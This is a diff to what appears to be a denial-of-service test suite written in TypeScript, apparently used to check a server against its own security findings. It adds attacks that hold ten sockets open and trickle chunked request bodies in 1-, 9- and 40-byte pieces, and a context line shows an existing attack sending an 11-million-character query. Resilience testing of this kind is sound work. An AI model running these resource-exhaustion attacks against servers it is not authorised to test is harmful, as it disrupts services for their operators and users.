@@ -1,6 +1,6 @@
 import { setTimeout as sleep } from 'node:timers/promises';
 import type { Attack, Attacker } from '../attack.ts';
-import { holdSockets } from '../held-sockets.ts';
+import { holdSockets, pourInto } from '../held-sockets.ts';
 import { persist } from '../persist.ts';
 
 const HALF_OF_A_BODY = '{"engi';
@@ -71,6 +71,25 @@ export const heldQueries: Attack = {
     return holdSockets(url, 30, `${head.join('\r\n')}\r\n\r\n{"query":"${'x'.repeat(11_000_000)}`, signal);
   },
 };
+
+/** What each chunk takes beside its bytes is many times those. */
+function choppedBodies(bytes: number): Attack {
+  return {
+    name: `ten bodies in chunks of ${bytes} ${bytes === 1 ? 'byte' : 'bytes'}`,
+    finding: 'S2',
+    run: ({ url, penniless }, signal) => {
+      const chunk = `${bytes.toString(16)}\r\n${' '.repeat(bytes)}\r\n`;
+      const many = Buffer.from(chunk.repeat(Math.ceil(60_000 / chunk.length)));
+      const head = uploadOf(penniless, 'Transfer-Encoding: chunked', '');
+      return holdSockets(url, 10, head, signal, { onOpen: (socket) => pourInto(socket, many) });
+    },
+  };
+}
+
+export const chunksOfAByte = choppedBodies(1);
+export const chunksOfNineBytes = choppedBodies(9);
+/** As small as chunks may be, so that such a body is taken whole. */
+export const chunksOfFortyBytes = choppedBodies(40);
 
 function uploadOf({ apiKey }: Attacker, length: string, body: string): string {
   const head = [
